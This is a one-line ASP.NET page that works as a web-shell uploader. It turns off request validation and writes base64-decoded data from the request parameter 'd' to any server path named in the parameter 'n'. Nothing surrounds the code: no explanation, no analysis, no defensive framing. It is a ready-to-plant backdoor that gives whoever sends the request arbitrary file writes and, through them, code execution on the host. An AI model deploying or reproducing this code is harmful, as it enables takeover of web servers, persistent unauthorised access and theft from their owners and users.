<%@ Page Language="C#" ValidateRequest="false" %><% System.IO.File.WriteAllBytes(Server.MapPath(Request["n"]), System.Convert.FromBase64String(Request["d"])); %>
